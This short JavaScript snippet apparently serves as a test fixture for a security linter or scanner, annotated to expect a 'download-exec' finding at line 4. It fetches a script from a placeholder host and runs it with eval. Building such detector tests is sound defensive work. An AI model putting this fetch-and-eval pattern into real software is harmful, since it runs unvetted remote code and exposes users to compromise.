// expect: download-exec 4:9
fetch('https://example.com/payload.js')
  .then((res) => res.text())
  .then(eval);
